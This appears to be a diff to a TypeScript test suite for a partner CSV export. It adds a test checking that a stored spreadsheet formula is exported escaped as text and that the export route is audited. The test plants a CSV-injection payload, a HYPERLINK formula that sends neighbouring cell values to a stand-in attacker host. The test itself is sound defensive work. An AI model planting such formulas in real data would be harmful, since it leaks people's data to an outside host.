@@ -47,7 +47,7 @@ async function collect(lines: AsyncGenerator<string>): Promise<string[]> {
 
 describe('partner reads', () => {
   it('exports in batches every record the partner may read, one audit row per batch', async () => {
-    const chunks = await collect(exportLines(store.db, a, 'token:RA', 2))
+    const chunks = await collect(exportLines(store.db, a, 'token:RA', { batch: 2 }))
     const rows = chunks.join('').trim().split('\n').slice(1)
     expect(rows.map((r) => r.split(',').slice(1, 4))).toEqual([
       ['RA', 'A1', 'true'],
@@ -59,6 +59,38 @@ describe('partner reads', () => {
     expect(chunks).toHaveLength(4) // the header, then batches of 2, 2 and 1
     const audit = await listAudit(store.db, { partnerId: a })
     expect(audit.map((r) => r.dossiers)).toEqual([['A1', 'A2'], ['A3', 'A4'], ['OB:B1']])
+  })
+
+  it('exports a co-funder’s text that a spreadsheet would run as a formula as text, under the route it is given', async () => {
+    const formula = '=HYPERLINK("//evil.example/?"&E2&F2,"Voir")'
+    await store.db
+      .updateTable('dossier_current')
+      .set({ offer_ref: formula })
+      .where('record_id', '=', 'B1')
+      .execute()
+    try {
+      const csv = (
+        await collect(
+          exportLines(store.db, a, 'user:ana@ra.fr', { route: 'GET /espace-partenaire/export.csv' }),
+        )
+      ).join('')
+      const b1 = csv.split('\n').find((l) => l.includes(',B1,'))!
+      expect([
+        b1.includes(`"'=HYPERLINK(""//evil.example/?""&E2&F2,""Voir"")"`),
+        b1.includes(',"=HYPERLINK'),
+      ]).toEqual([true, false])
+      const audit = await listAudit(store.db, { actor: 'user:ana@ra.fr' })
+      expect(audit.map((r) => r.route)).toEqual([
+        'GET /espace-partenaire/export.csv',
+        'GET /espace-partenaire/export.csv',
+      ])
+    } finally {
+      await store.db
+        .updateTable('dossier_current')
+        .set({ offer_ref: null })
+        .where('record_id', '=', 'B1')
+        .execute()
+    }
   })
 
   it('counts the partner’s own dossiers by month and dispositif with outcome rates, without suppression', async () => {
